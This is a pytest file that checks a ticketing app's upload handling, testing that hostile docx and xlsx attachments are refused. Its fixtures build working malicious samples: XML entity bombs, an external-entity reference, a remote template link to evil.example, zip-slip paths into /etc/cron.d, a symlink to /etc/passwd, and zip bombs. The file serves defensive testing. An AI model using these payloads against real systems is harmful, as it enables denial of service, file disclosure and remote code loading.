"""U-06, U-07: office documents within bounds, nothing outside them, XML without entities."""

import io
import stat
import struct
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from common.errors import InvalidInput
from tests.tickets.files import builders as make
from tickets.models import Attachment

pytestmark = pytest.mark.django_db

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;</x>'
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "http://127.0.0.1:9/x">]><x>&a;</x>'
TEMPLATE = (
    '<Relationships><Relationship Id="1" Target="https://evil.example/t.dotm" TargetMode="External" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)


def with_link() -> bytes:
    out = io.BytesIO(make.docx())
    with zipfile.ZipFile(out, "a") as file:
        link = zipfile.ZipInfo("word/media/link.png")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        file.writestr(link, "/etc/passwd")
    return out.getvalue()


def with_password() -> bytes:
    body = bytearray(make.docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = body.find(mark)
        while position >= 0:
            body[position + at] |= 1
            position = body.find(mark, position + 4)
    return bytes(body)


def hundred_thousand_entries() -> bytes:
    """A directory of 100 000 entries that all point at one small file."""
    name = b"a.xml"
    local = b"PK\x03\x04" + b"\x14\x00" + b"\x00" * 20 + struct.pack("<HH", len(name), 0) + name
    fields = struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0)
    entry = b"PK\x01\x02" + b"\x14\x00\x14\x00" + b"\x00" * 20 + fields + name
    count = 100_000
    end = struct.pack(
        "<HHHHIIH", 0, 0, count % 65_536, count % 65_536, len(entry) * count, len(local), 0
    )
    return local + entry * count + b"PK\x05\x06" + end


def lying_about_size() -> bytes:
    """An entry that declares one kilobyte and holds two megabytes."""
    body = bytearray(make.docx({"word/big.xml": "<x>" + " " * 2_000_000 + "</x>"}))
    at = body.rfind(b"PK\x01\x02", 0, body.rfind(b"word/big.xml"))
    body[at + 24 : at + 28] = struct.pack("<I", 1024)
    return bytes(body)


CASES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "ten gigabytes": ("bomb.xlsx", lambda: make.zip_bomb(10)),
    "a hundred thousand entries": ("many.docx", hundred_thousand_entries),
    "three thousand small entries": (
        "many.docx", lambda: make.docx({f"word/p{number}.xml": "<p/>" for number in range(3_000)})
    ),
    "ratio": ("thin.docx", lambda: make.docx({"word/zeros.bin": b"\x00" * 30_000_000})),
    "declared in all": (
        "sum.docx", lambda: make.docx({f"word/media/{n}.png": bytes(range(256)) * 8_000 for n in range(60)})
    ),
    "lying about size": ("lies.docx", lying_about_size),
    "archive inside": ("nested.docx", lambda: make.docx({"word/media/image1.png": make.docx()})),
    "file inside": ("nested.docx", lambda: make.docx({"word/embeddings/a.xlsx": make.xlsx()})),
    "slip": ("slip.docx", lambda: make.docx({"../../etc/cron.d/x.xml": "<x/>"})),
    "slip backwards": ("slip.docx", lambda: make.docx({"..\\..\\x.xml": "<x/>"})),
    "absolute": ("slip.docx", lambda: make.docx({"/etc/x.xml": "<x/>"})),
    "link": ("link.docx", with_link),
    "password": ("secret.docx", with_password),
    "laughs": ("laughs.docx", lambda: make.docx({"word/styles.xml": LAUGHS})),
    "laughs in a sheet": ("laughs.xlsx", lambda: make.xlsx({"xl/styles.xml": LAUGHS})),
    "outside entity": ("outside.docx", lambda: make.docx({"word/styles.xml": OUTSIDE})),
    "outside template": ("template.docx", lambda: make.docx({"word/_rels/settings.xml.rels": TEMPLATE})),
    "deep": ("deep.docx", lambda: make.docx({"word/deep.xml": "<a>" * 5_000 + "</a>" * 5_000})),
    "half": ("half.docx", lambda: make.docx()[:-40]),
    "broken xml": ("broken.docx", lambda: make.docx({"word/styles.xml": "<a><b></a>"})),
    "broken entry": ("broken.docx", lambda: make.docx().replace(b"PK\x01\x02", b"PK\x01\x03", 1)),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_u06_u07_is_refused_within_a_moment_and_leaves_nothing(
    name: str, put: Callable[..., Attachment], leftovers: Callable[[], list[Path]], settings: Any
) -> None:
    file_name, build = CASES[name]
    body = build()
    started = time.perf_counter()
    with pytest.raises(InvalidInput) as refused:
        put(file_name, body)
    assert time.perf_counter() - started < 3
    assert refused.value.code in {"file_broken", "file_dangerous", "file_too_big", "file_type"}
    assert (Attachment.objects.count(), leftovers()) == (0, [])
    assert not list(Path(settings.MEDIA_ROOT).parent.glob("etc*"))


def test_hyperlink_to_the_outside_is_allowed(put: Callable[..., Attachment]) -> None:
    link = TEMPLATE.replace("attachedTemplate", "hyperlink")
    assert put("links.docx", make.docx({"word/_rels/document.xml.rels": link})).name == "links.docx"
